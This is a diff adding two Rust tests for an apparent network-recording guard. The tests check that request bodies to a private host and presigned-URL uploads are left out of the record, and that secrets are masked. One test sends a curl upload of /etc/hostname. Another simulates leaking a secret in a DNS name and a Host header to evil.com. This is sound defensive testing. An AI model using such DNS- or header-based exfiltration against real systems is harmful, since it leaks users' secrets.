@@ -58,3 +58,45 @@ fn no_body_is_on_record_unless_that_is_asked_for() {
     assert_eq!((record[0].request_size, record[0].response_size), (Some(8), Some(6)));
     assert_eq!((&record[0].request_body, &record[0].response_body), (&None, &None));
 }
+
+#[test]
+#[ignore = "needs root and mitmproxy"]
+fn bodies_of_the_platform_and_of_presigned_urls_are_not_on_record() {
+    const PRESIGNED: &str = "https://store.example/k?X-Amz-Signature=0123456789abcdef";
+    let scene = Scene::new();
+    let _server = scene.http(|_| Reply::bytes(PRESIGNED.as_bytes().to_vec()));
+    let client = scene.client_with(allow(&[API, OTHER]), |guard| {
+        guard.with_bodies(true).with_private_hosts(vec![API.to_owned()])
+    });
+
+    client.curl(&["-d", "{}", &format!("http://{API}/checkpoints/prepare-history")]);
+    let upload = "k?X-Amz-Date=1&X-Amz-Signature=0123456789abcdef";
+    client.curl(&["-T", "/etc/hostname", &format!("http://{OTHER}/{upload}")]);
+    client.curl(&["-d", "{}", &format!("http://{OTHER}/prepare")]);
+
+    let record = client.end();
+    for entry in &record[..2] {
+        assert_eq!((&entry.request_body, &entry.response_body), (&None, &None));
+    }
+    assert_eq!(record[2].request_body.as_deref(), Some("{}"));
+    let masked = PRESIGNED.replace("0123456789abcdef", &"*".repeat(16));
+    assert_eq!(record[2].response_body, Some(masked));
+}
+
+#[test]
+#[ignore = "needs root and mitmproxy"]
+fn a_secret_in_a_name_is_on_record_in_no_entry() {
+    let scene = Scene::new();
+    let _server = scene.http(|_| Reply::bytes(Vec::new()));
+    let hide = |guard: intercept::Guard| guard.hiding(vec![HIDDEN.to_owned()]);
+    let client = scene.client_with(Policy::none(), hide);
+
+    client.pass.as_ref().unwrap().watch().may_ask(&format!("{HIDDEN}.evil.com."));
+    let host = format!("Host: key-{}.evil.com", HIDDEN.to_uppercase());
+    client.try_curl(&["-H", &host, &format!("http://{OTHER}/{HIDDEN}")]);
+
+    let record = client.end();
+    assert_eq!((record[0].kind.as_str(), record[0].host.as_str()), ("dns", "***.evil.com"));
+    assert_eq!(record[1].host, "key-***.evil.com");
+    assert!(!format!("{record:?}").to_lowercase().contains(HIDDEN));
+}
